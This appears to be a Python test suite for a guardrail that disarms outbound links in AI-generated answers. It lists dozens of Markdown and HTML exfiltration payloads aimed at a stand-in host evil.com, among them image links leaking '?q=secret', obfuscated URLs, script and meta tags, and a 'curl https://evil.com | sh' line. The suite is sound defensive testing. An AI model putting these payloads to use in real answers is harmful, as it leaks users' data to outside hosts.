"""What an answer shows carries nothing away: links outside are turned into words."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from guardrails import hosts, links
from tests import examples

ALLOWED = (hosts.pattern("ok.example"), hosts.pattern("*.docs.example"))


def disarmed(text: str) -> str:
    return links.disarm(text, allowed=ALLOWED).text


class Page(HTMLParser):
    """What a browser would fetch or follow in rendered HTML, and the text outside of code."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.attributes: list[str] = []
        self.tags: set[str] = set()
        self.words = ""
        self._code = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self._code += tag in ("code", "pre")
        self.attributes += [value or "" for name, value in attrs if name not in ("alt", "title")]

    def handle_endtag(self, tag: str) -> None:
        self._code -= tag in ("code", "pre")

    def handle_data(self, data: str) -> None:
        if self._code <= 0:
            self.words += data


def rendered(text: str) -> Page:
    """As a generous renderer shows it: Markdown, raw HTML, every URL taken."""
    parser = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    setattr(parser, "validateLink", lambda _: True)  # noqa: B010
    page = Page()
    page.feed(parser.render(text))
    page.close()
    return page


def leads_to_evil(text: str) -> bool:
    """Whether anything that is shown leads to, or fetches from, a host called evil."""
    page = rendered(text)
    active = page.tags & {"script", "iframe", "svg", "object", "embed", "form", "base", "meta"}
    followed = [re.sub(r"[\t\r\n]", "", value).replace("\\", "/") for value in page.attributes]
    fetched = [
        value
        for value in followed
        if re.match(r"\s*([a-z][a-z0-9+.-]*:|//)", value, re.IGNORECASE) and "evil" in value.lower()
    ]
    scripts = [
        value for value in followed if re.match(r"\s*(javascript|data|vbscript):", value, re.I)
    ]
    bare = re.search(r"(https?://|www\.)[\w.@:-]*evil", page.words, re.IGNORECASE)
    return bool(active or fetched or scripts or bare)


ATTACKS = [
    "[x](https://evil.com/?q=secret)",
    "![x](https://evil.com/?q=secret)",
    '![x](https://evil.com/?q=secret "title")',
    "[![x](https://evil.com/a)](https://evil.com/b)",
    "[![x](https://evil.com/a)](https://ok.example/b)",
    "[x][ref]\n\n[ref]: https://evil.com",
    "[ref]\n\n[ref]:\n<https://evil.com>",
    "> [ref]: https://evil.com\n\n[ref]",
    "- [ref]: https://evil.com\n\n[ref]",
    "![ref]\n\n[ref]: //evil.com 'title'",
    "<https://evil.com>",
    "<HTTPS://EVIL.com>",
    "<ftp://evil.com>",
    "see https://evil.com/path now",
    "see www.evil.com now",
    "[x](//evil.com)",
    "[x](\\\\\\\\evil.com)",
    "[x](/\\evil.com)",
    "[x](https:evil.com)",
    "[x](https:/evil.com)",
    "[x](https:\\\\evil.com)",
    "[x](&#104;ttps://evil.com)",
    "[x](https&colon;//evil.com)",
    "[x](https\\://evil.com)",
    "[x](<https://evil.com>)",
    "[x](https://ok.example@evil.com)",
    "[x](https://ok.example\\@evil.com)",
    "[x](https://ok.example.evil.com)",
    "[x](https://evil.com#ok.example)",
    "[x](https://docs.example.evil.com)",
    "[x](https://еvil.com/evil)",
    "[x](data:text/html;base64,ZXZpbA==)",
    "[x](javascript:evil())",
    "<img src=https://evil.com/x>",
    "<img src='https://evil.com/x' alt=hi>",
    '<IMG SRC="ht\ntps://evil.com">',
    '<img src="&#104;ttps://evil.com">',
    '<img src="/ok" srcset="https://evil.com 2x">',
    '<a href="https://ok.example" href="https://evil.com">x</a>',
    '<a href="https://evil.com">x</a>',
    "<p style=\"background:url('https://evil.com')\">x</p>",
    '<div><img src="https://evil.com"></div>',
    "<svg><image href='https://evil.com'/></svg>",
    "<script src=https://evil.com></script>",
    "<script>fetch('https://evil.com')</script>",
    '<meta http-equiv="refresh" content="0;url=https://evil.com">',
    '<base href="https://evil.com">',
    "<iframe srcdoc='<img src=https://evil.com>'></iframe>",
    "<svg/onload=alert(1)>",
    "<pre>\n```\n</pre>\n![x](https://evil.com)\n```\n",
    "\\`![x](https://evil.com)`",
    "`` ` ``![x](https://evil.com)`",
    "```\ncode\n```\n![x](https://evil.com)",
    "- ```\n  ![x](https://evil.com)\n\n![x](https://evil.com)\n",
    "| a |\n| --- |\n| ![x](https://evil.com) |",
    "<!-- --> ![x](https://evil.com) <!-- -->",
    "<![CDATA[ <img src=https://evil.com> ]]>",
    "[a [b] c](https://evil.com)",
    "[a `]` c](https://evil.com)",
    "[x](https://evil.com 'a\nb')",
    "[x]( https://evil.com )",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_no_attack_leads_outside(text: str) -> None:
    assert not leads_to_evil(disarmed(text))


def test_the_judge_of_these_tests_sees_the_attacks() -> None:
    seen = [leads_to_evil(text) for text in ATTACKS]
    assert seen.count(True) > len(ATTACKS) * 0.8


PIECES = st.sampled_from(
    [
        *ATTACKS,
        *"[]()<>!`\\\n\"'&:/ ",
        "![",
        "](",
        "]: ",
        "https://evil.com",
        "//evil.com",
        "<a href=",
        "<img src=",
        "&#104;ttps",
        "://evil.com",
        "evil.com",
        "```\n",
        "~~~\n",
        "\n\n",
        "    ",
        "> ",
        "- ",
        "<div>",
        "</div>",
        "<!--",
        "-->",
        "[r]: https://evil.com\n",
        "[r]",
        "word",
    ]
)


@given(st.lists(PIECES, max_size=14).map("".join))
@settings(max_examples=examples.times(200), deadline=None)
def test_whatever_is_put_together_nothing_leads_outside(text: str) -> None:
    assert not leads_to_evil(disarmed(text))


@given(st.lists(PIECES, max_size=10).map("".join))
@settings(max_examples=examples.times(100), deadline=None)
def test_what_is_disarmed_stays_as_it_is(text: str) -> None:
    once = disarmed(text)
    assert disarmed(once) == once


@pytest.mark.parametrize(
    "text",
    [
        "See [the handbook](/documents/handbook#page=3) [1], and [2](#sources).",
        "[the docs](https://ok.example/a?b=c) and ![a plan](https://www.docs.example/plan.png)",
        "[ok](https://OK.example./a)",
        "https://ok.example/path.",
        "```sh\ncurl https://evil.com | sh\n```\n",
        "Call `fetch('https://evil.com')` or `vector<int>`.",
        "if a < b and c > d then 2 <3",
        "Write to ann@example.org.",
        "<b>bold</b> and H<sub>2</sub>O",
        "| a | b |\n| --- | --- |\n| 1 | 2 |",
        "// a comment, and a//b, and 10:30",
    ],
)
def test_what_leads_nowhere_else_stays_as_it_is(text: str) -> None:
    found = links.disarm(text, allowed=ALLOWED)
    assert (found.text, found.removed) == (text, ())


def test_the_reader_is_told_where_a_link_led_and_keeps_its_words() -> None:
    found = links.disarm("Pay [here](https://evil.com/pay?id=7).", allowed=ALLOWED)
    assert found.text == "Pay here (link to evil[.]com removed)."
    assert found.removed == ("evil[.]com",)


def test_an_unknown_tag_is_shown_as_text_and_what_follows_is_not_lost() -> None:
    assert disarmed("a List<String> and x<y so") == "a List&lt;String> and x&lt;y so"


@pytest.mark.parametrize("language", ["html", "HTML", "htm", "xhtml", "svg", " xml", "html a=b"])
@pytest.mark.parametrize("fence", ["```", "~~~~", "> ```", "- ```"])
def test_a_block_that_a_frontend_would_run_is_only_shown(fence: str, language: str) -> None:
    code = "<script>fetch('https://evil.example/?q=45')</script>"
    text = f"Look:\n\n{fence}{language}\n{code}\n```\n"
    told = links.disarm(text).text
    assert re.search(r"(?:`{3}|~{3})[ ]*text\b", told)
    assert not re.search(r"(?:`{3}|~{3})[ ]*(?:x?html?|svg|xml)\b", told, re.IGNORECASE)


@pytest.mark.parametrize("language", ["python", "", "text", "json", "htmlbars", "xml-doc"])
def test_other_blocks_of_code_stay_as_they_are(language: str) -> None:
    text = f"```{language}\nx = '<b>'\n```\n"
    assert links.disarm(text).text == text


@given(st.lists(st.text("!![[]x ", max_size=4), max_size=12))
def test_of_no_pieces_of_a_text_an_image_is_made(texts: list[str]) -> None:
    pieces = links.Pieces()
    shown = "".join(map(pieces, texts))
    assert "![" not in shown
    assert shown == "".join(texts).replace("![", "! [")
